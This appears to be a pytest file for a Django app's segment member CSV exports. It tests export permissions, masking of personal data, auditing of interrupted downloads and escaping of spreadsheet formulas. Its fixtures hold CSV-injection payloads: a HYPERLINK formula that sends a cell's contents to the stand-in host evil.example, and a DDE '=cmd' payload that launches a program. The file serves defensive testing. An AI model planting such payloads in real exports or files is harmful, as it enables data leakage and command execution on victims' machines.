"""Member exports in the API and the admin: a permission of their own, masked without privacy.view_pii, audited
before the rows leave (an interrupted download too), and safe to open in a spreadsheet (issue 24, findings 3, 6)."""
import csv
import io
from unittest import mock

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from privacy.models import AuditRecord
from profiles.models import Consent, CustomerProfile, FeedBatch, Source, SourceRecord
from profiles.services import identity_map_export
from segments.models import Segment
from segments.services import segment_refresh, segment_save
from tests.api.conftest import grant

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME, HOSTILE_EMAIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1@evil.example"


@pytest.fixture
def shanghai():
    make = CustomerProfile.objects.create
    people = [
        make(public_id="PANN", full_name="李安", city="上海市", phone="+8613812875678", email="ann@qq.com"),
        make(public_id="PBEA", full_name="王蓓", city="上海市", phone="+8613900001111", email="bea@163.com"),
        make(public_id="PEVL", full_name=HOSTILE_NAME, city="上海市", phone="-1", email=HOSTILE_EMAIL,
             address="@SUM(1+1)"),
    ]
    for person in people:
        Consent.objects.create(profile=person, channel="sms", granted=True, source="app", updated_at=timezone.now())
    segment = segment_save(segment=Segment(name="Shanghai", slug="shanghai",
                                           rule={"field": "city", "op": "eq", "value": "上海市"}))
    segment_refresh(segment=segment)
    return Segment.objects.get(pk=segment.pk)


def staff(*permissions: str):
    return grant(get_user_model().objects.create_user("marketer", password="x", is_staff=True), *permissions)


def admin_export(client, segment):
    return client.get(reverse("admin:segments_segment_export", args=[segment.pk]), {"channel": "sms"})


def api_export(client):
    return client.get("/api/v1/segments/shanghai/members/export/", {"channel": "sms"})


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_admin_export_needs_the_export_permission(client, shanghai):
    client.force_login(staff("segments.view_segment"))
    assert admin_export(client, shanghai).status_code == 403
    members_page = client.get(reverse("admin:segments_segment_members", args=[shanghai.pk])).content.decode()
    assert "Download CSV" not in members_page
    assert not AuditRecord.objects.exists()


def test_the_admin_export_is_masked_without_view_pii(client, shanghai):
    client.force_login(staff("segments.view_segment", "privacy.export_members"))
    rows = cells(admin_export(client, shanghai))
    assert rows[0] == ["profile_id", "full_name", "phone", "email"]
    assert ["PANN", "李*", "138****5678", "a**@qq.com"] in rows
    assert not AuditRecord.objects.exists()


def test_the_admin_export_with_view_pii_is_clear_and_audited_as_the_person(client, shanghai):
    user = staff("segments.view_segment", "privacy.export_members", "privacy.view_pii")
    client.force_login(user)
    rows = cells(admin_export(client, shanghai))
    assert ["PANN", "李安", "'+8613812875678", "ann@qq.com"] in rows
    audited = {r.profile_public_id: sorted(r.fields) for r in AuditRecord.objects.filter(user=user)}
    assert audited == {"PANN": ["email", "full_name", "phone"], "PBEA": ["email", "full_name", "phone"],
                       "PEVL": ["email", "full_name", "phone"]}


def test_a_person_needs_the_export_permission_in_the_api_too(shanghai):
    client = APIClient()
    client.force_login(staff("segments.view_segment", "privacy.view_pii"))
    response = api_export(client)
    assert response.status_code == 403 and "privacy.export_members" in response.json()["message"]
    assert not AuditRecord.objects.exists()


@pytest.mark.parametrize("who", ["key", "person"])
def test_an_export_interrupted_midway_is_audited_for_everything_received(api_client, client, shanghai, who):
    """The client reads the header and the first rows, then disconnects: every row it received was audited."""
    if who == "key":
        caller = api_client(scopes=["segments:read", "profiles:read_pii"])
        response = api_export(caller)
    else:
        client.force_login(staff("segments.view_segment", "privacy.export_members", "privacy.view_pii"))
        response = admin_export(client, shanghai)
    stream = iter(response.streaming_content)
    received = next(stream) + next(stream)
    # What a WSGI server does when the client goes away: close the response, which stops its generator where it
    # is; the request's end must not close the connection that holds the test's transaction.
    with mock.patch.object(connection, "close_if_unusable_or_obsolete"):
        response.close()
    received_ids = {row[0] for row in csv.reader(io.StringIO(received.decode()))} - {"id", "profile_id"}
    assert received_ids
    assert received_ids <= set(AuditRecord.objects.values_list("profile_public_id", flat=True))


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_no_exported_cell_is_a_spreadsheet_formula(api_client, client, shanghai):
    clear = cells(api_export(api_client(scopes=["segments:read", "profiles:read_pii"])))
    masked = cells(api_export(api_client(scopes=["segments:read"])))
    assert len(clear) == len(masked) == 4
    assert formulas(clear) == formulas(masked) == []
    assert next(row for row in clear if row[0] == "PEVL") == ["PEVL", "'" + HOSTILE_NAME, "'-1", "'" + HOSTILE_EMAIL]
    assert next(row for row in masked if row[0] == "PEVL")[1].startswith("'=")

    client.force_login(staff("segments.view_segment", "privacy.export_members", "privacy.view_pii"))
    assert sorted(cells(admin_export(client, shanghai))[1:]) == sorted(clear[1:])


def test_the_identity_map_quotes_a_customer_key_a_spreadsheet_would_run(tmp_path, shanghai):
    source = Source.objects.get(code="core")
    batch = FeedBatch.objects.create(source=source, file_name="t.csv", status=FeedBatch.Status.SUCCEEDED)
    SourceRecord.objects.create(source=source, customer_key="=cmd|' /C calc'!A0",
                                profile=CustomerProfile.objects.get(public_id="PANN"), row_digest="x",
                                first_batch=batch, last_batch=batch, loaded_at=timezone.now())
    identity_map_export(path=tmp_path / "map.csv")
    rows = list(csv.reader(open(tmp_path / "map.csv", encoding="utf-8")))
    assert rows[1] == ["PANN", "core", "'=cmd|' /C calc'!A0"]
